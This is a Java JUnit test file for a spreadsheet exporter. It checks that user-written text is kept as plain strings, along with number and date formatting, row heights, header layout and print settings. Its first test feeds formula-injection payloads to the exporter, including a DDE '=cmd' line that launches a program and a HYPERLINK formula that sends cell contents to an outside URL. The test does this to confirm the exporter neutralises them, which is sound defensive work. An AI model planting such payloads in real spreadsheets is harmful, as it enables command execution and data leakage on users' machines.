package cn.chaozhou.forum.paper;

import static org.assertj.core.api.Assertions.assertThat;

import cn.chaozhou.forum.paper.ListSheet.Column;
import cn.chaozhou.forum.paper.ListSheet.Lamp;
import cn.chaozhou.forum.paper.ListSheet.Percent;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.stream.IntStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.PrintSetup;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A sheet read back from the file. */
class ListSheetTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.com/?\"&A1,\"点此\")",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "@SUM(1,1)",
                "\t=1+1",
                "\r\n=1+1",
                " =1+1",
                "＝1+1"
            })
    void whatPeopleWroteIsNeverAFormula(String written) throws IOException {
        XSSFSheet sheet = sheet(List.of(written, "水"));
        for (Row row : sheet) {
            for (Cell cell : row) {
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo("@");
            }
        }
        Cell cell = sheet.getRow(2).getCell(0);
        assertThat(cell.getStringCellValue()).isEqualTo(written.strip());
        assertThat(sheet.getWorkbook().getAllNames())
                .allMatch(n -> !n.getRefersToFormula().contains("cmd"));
    }

    @Test
    void numbersAndDatesAreReal() throws IOException {
        XSSFSheet sheet = sheet(List.of(
                7,
                new Percent(35),
                LocalDate.of(2026, 11, 26),
                LocalDateTime.of(2026, 11, 26, 18, 0),
                new Lamp("RED", "红灯")));
        assertThat(cell(sheet, 0).getNumericCellValue()).isEqualTo(7);
        assertThat(cell(sheet, 1).getNumericCellValue()).isEqualTo(0.35);
        assertThat(cell(sheet, 1).getCellStyle().getDataFormatString()).isEqualTo("0%");
        assertThat(DateUtil.isCellDateFormatted(cell(sheet, 2))).isTrue();
        assertThat(cell(sheet, 2).getLocalDateTimeCellValue()).isEqualTo("2026-11-26T00:00");
        assertThat(DateUtil.isCellDateFormatted(cell(sheet, 3))).isTrue();
        assertThat(cell(sheet, 3).getLocalDateTimeCellValue()).isEqualTo("2026-11-26T18:00");
        assertThat(cell(sheet, 4).getStringCellValue()).isEqualTo("红灯");
        assertThat(cell(sheet, 4).getCellStyle().getFillForegroundColor()).isNotEqualTo((short) 0);
    }

    @Test
    void aRowIsAsHighAsItsLongestText() throws IOException {
        float one = sheet(List.of("水", "水")).getRow(2).getHeightInPoints();
        assertThat(sheet(List.of("水".repeat(11), "水")).getRow(2).getHeightInPoints())
                .isGreaterThan(2 * one);
        assertThat(sheet(List.of("一\n二\n三", "水")).getRow(2).getHeightInPoints()).isGreaterThan(2 * one);
        assertThat(sheet(List.of("水".repeat(4000), "水")).getRow(2).getHeightInPoints())
                .isLessThan(410);
    }

    @Test
    void theHeadStaysInViewAndFilters() throws IOException {
        XSSFSheet sheet = sheet(List.of("一", "二", "三"));
        assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("问题清单");
        assertThat(sheet.getMergedRegion(0).formatAsString()).isEqualTo("A1:C1");
        assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
        assertThat(sheet.getPaneInformation().getHorizontalSplitTopRow()).isEqualTo((short) 2);
        assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A2:C3");
        assertThat(sheet.getColumnWidth(1)).isEqualTo(12 * 256);
    }

    @Test
    void itPrintsOnA4AcrossAndRepeatsItsHead() throws IOException {
        XSSFSheet sheet = sheet(List.of("一", "二"));
        assertThat(sheet.getPrintSetup().getLandscape()).isTrue();
        assertThat(sheet.getPrintSetup().getPaperSize()).isEqualTo(PrintSetup.A4_PAPERSIZE);
        assertThat(sheet.getFitToPage()).isTrue();
        assertThat(sheet.getPrintSetup().getFitWidth()).isEqualTo((short) 1);
        assertThat(sheet.getPrintSetup().getFitHeight()).isEqualTo((short) 0);
        assertThat(sheet.getRepeatingRows().formatAsString()).isEqualTo("1:2");
    }

    private static Cell cell(XSSFSheet sheet, int column) {
        return sheet.getRow(2).getCell(column);
    }

    /** One row of these values. */
    private static XSSFSheet sheet(List<?> values) throws IOException {
        List<Column<List<?>>> columns = IntStream.range(0, values.size())
                .mapToObj(i -> new Column<List<?>>("栏" + i, 12, row -> row.get(i)))
                .toList();
        try (XSSFWorkbook book = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            new ListSheet<>(book, columns).write("问题清单", "问题清单", List.of(values));
            book.write(out);
            return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray())).getSheetAt(0);
        }
    }
}
